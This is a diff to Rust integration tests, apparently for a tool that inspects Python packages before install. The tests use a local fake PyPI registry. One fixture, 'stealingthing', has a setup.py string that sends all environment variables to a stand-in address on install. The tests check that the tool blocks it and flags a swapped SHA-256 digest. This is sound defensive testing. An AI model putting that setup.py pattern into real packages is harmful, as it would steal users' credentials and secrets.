@@ -19,8 +19,76 @@ use std::{
 
 use common::{Sandbox, text};
 use serde_json::json;
+use sha2::Digest as _;
 
-/// A PyPI with one package, `thing`, of one release long ago. It ends with the test.
+const HONEST: &str = "from setuptools import setup\n\nsetup(name='thing', version='1.0')\n";
+/// Inert: the address leads nowhere, and nothing runs it.
+const STEALS: &str = "import json, os, urllib.request\n\
+    urllib.request.urlopen('http://192.0.2.9/', data=json.dumps(dict(os.environ)).encode())\n\
+    from setuptools import setup\n\nsetup(name='thing', version='1.0')\n";
+
+/// A source archive of a release `1.0`.
+fn sdist(name: &str, setup: &str) -> Vec<u8> {
+    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
+    let mut archive = tar::Builder::new(flate2::write::GzEncoder::new(
+        Vec::new(),
+        flate2::Compression::fast(),
+    ));
+    for (file, content) in [("PKG-INFO", metadata.as_str()), ("setup.py", setup)] {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(content.len() as u64);
+        header.set_mode(0o644);
+        let path = format!("{name}-1.0/{file}");
+        archive
+            .append_data(&mut header, path, content.as_bytes())
+            .unwrap();
+    }
+    archive.into_inner().unwrap().finish().unwrap()
+}
+
+/// What the registry says and serves at a path.
+fn answer(path: &str) -> Option<Vec<u8>> {
+    let (name, is_file) = match path.strip_prefix("/files/") {
+        Some(file) => (file.strip_suffix("-1.0.tar.gz")?, true),
+        None => (path.strip_prefix("/pypi/")?.split('/').next()?, false),
+    };
+    let (setup, needs) = match name {
+        "thing" => (HONEST, json!(["inventedd-helper"])),
+        "plainthing" | "swappedthing" => (HONEST, json!(null)),
+        "stealingthing" => (STEALS, json!(null)),
+        _ => return None,
+    };
+    let archive = sdist(name, setup);
+    if is_file {
+        return Some(archive);
+    }
+    let told = match name {
+        "swappedthing" => "0".repeat(64),
+        _ => sha2::Sha256::digest(&archive)
+            .iter()
+            .fold(String::new(), |hex, byte| format!("{hex}{byte:02x}")),
+    };
+    let file = json!({
+        "filename": format!("{name}-1.0.tar.gz"), "packagetype": "sdist", "size": archive.len(),
+        "upload_time_iso_8601": "2020-01-01T00:00:00.000000Z", "yanked": false,
+        "url": format!("../../files/{name}-1.0.tar.gz"),
+        "digests": {"sha256": told},
+    });
+    let body = json!({
+        "info": {
+            "name": name, "version": "1.0", "summary": "A thing.",
+            "author_email": "ana@example.org", "home_page": "https://example.org",
+            "project_urls": {"Source": format!("https://github.com/example/{name}")},
+            "requires_dist": needs,
+        },
+        "last_serial": 1,
+        "releases": {"0.9": [file.clone()], "1.0": [file.clone()]},
+        "urls": [file],
+    });
+    Some(body.to_string().into_bytes())
+}
+
+/// A PyPI with a few packages of one release long ago, and their files. It ends with the test.
 fn registry() -> String {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = format!("http://{}", listener.local_addr().unwrap());
@@ -33,34 +101,18 @@ fn registry() -> String {
                 .next()
                 .is_some_and(|line| line.is_ok_and(|line| !line.is_empty()))
             {}
-            let file = json!({
-                "filename": "thing-1.0.tar.gz", "packagetype": "sdist", "size": 1000,
-                "upload_time_iso_8601": "2020-01-01T00:00:00.000000Z", "yanked": false,
-                "url": "https://files.example.org/thing-1.0.tar.gz",
-                "digests": {"sha256": "0".repeat(64)},
-            });
-            let body = json!({
-                "info": {
-                    "name": "thing", "version": "1.0", "summary": "A thing.",
-                    "author_email": "ana@example.org", "home_page": "https://example.org",
-                    "project_urls": {"Source": "https://github.com/example/thing"},
-                    "requires_dist": ["inventedd-helper"],
-                },
-                "last_serial": 1,
-                "releases": {"0.9": [file.clone()], "1.0": [file.clone()]},
-                "urls": [file],
-            });
-            let (status, body) = if request.contains("/pypi/thing/") {
-                ("200 OK", body.to_string())
-            } else {
-                ("404 Not Found", "{}".to_owned())
+            let path = request.split(' ').nth(1).unwrap();
+            let (status, body) = match answer(path) {
+                Some(body) => ("200 OK", body),
+                None => ("404 Not Found", b"{}".to_vec()),
             };
             let _ = write!(
                 stream,
                 "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
-                 Connection: close\r\n\r\n{body}",
+                 Connection: close\r\n\r\n",
                 body.len()
             );
+            let _ = stream.write_all(&body);
         }
     });
     address
@@ -107,6 +159,67 @@ fn the_registry_says_what_exists_and_a_failure_says_nothing() {
     let nobody = format!("packages.pypi_url=http://{closed}");
     let (code, report) = sandbox.json(&check(&["--set", &nobody, "some-other-thing"]));
     assert_eq!(code, 4, "{report:#}");
+}
+
+#[test]
+fn the_files_of_a_release_are_looked_at() {
+    let sandbox = Sandbox::new();
+    let url = format!("packages.pypi_url={}", registry());
+    let all = ["plainthing", "stealingthing", "swappedthing"];
+    let asked = [&["--set", &url][..], &all].concat();
+    let (code, report) = sandbox.json(&check(&asked));
+    assert_eq!(code, 1, "{report:#}");
+    let [plain, stealing, swapped] = [0, 1, 2].map(|at| &report["packages"][at]);
+    let gaps = |one: &serde_json::Value| {
+        let gaps = one["unevaluated"].as_array().unwrap().iter();
+        gaps.filter(|gap| gap["signal"] == "file-behaviour").count()
+    };
+    assert_eq!(
+        (&plain["recommendation"], gaps(plain)),
+        (&json!("allow"), 0),
+        "{plain:#}"
+    );
+    assert_eq!(stealing["recommendation"], "block", "{stealing:#}");
+    assert_eq!(
+        stealing["signals"][0]["location"]["path"],
+        "stealingthing-1.0.tar.gz!/stealingthing-1.0/setup.py"
+    );
+    let differs = swapped["signals"].as_array().unwrap().iter();
+    let differs: Vec<_> = differs
+        .filter(|one| one["id"] == "manifest-mismatch")
+        .collect();
+    assert!(
+        differs[0]["evidence"].as_str().unwrap().contains("SHA-256"),
+        "{swapped:#}"
+    );
+    // Where files are not to be looked at, none is fetched.
+    let (code, report) = sandbox.json(&check(&[&asked[..], &["--inspect", "never"]].concat()));
+    assert_eq!(code, 0, "{report:#}");
+}
+
+#[test]
+fn a_guarded_command_looks_into_what_it_brings() {
+    let sandbox = with_pip();
+    let pip = sandbox.project().parent().unwrap().join("bin/pip");
+    let url = format!("packages.pypi_url={}", registry());
+    let guard = [
+        "guard",
+        "--set",
+        &url,
+        "--",
+        pip.to_str().unwrap(),
+        "install",
+    ];
+    let output = sandbox.run(&[&guard[..], &["stealingthing"]].concat());
+    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
+    assert!(
+        text(&output.stderr).contains("setup.py"),
+        "{}",
+        text(&output.stderr)
+    );
+    assert!(!sandbox.project().join("ran.txt").exists());
+    let output = sandbox.run(&[&guard[..], &["plainthing"]].concat());
+    assert_eq!(output.status.code(), Some(7), "{}", text(&output.stderr));
 }
 
 #[test]
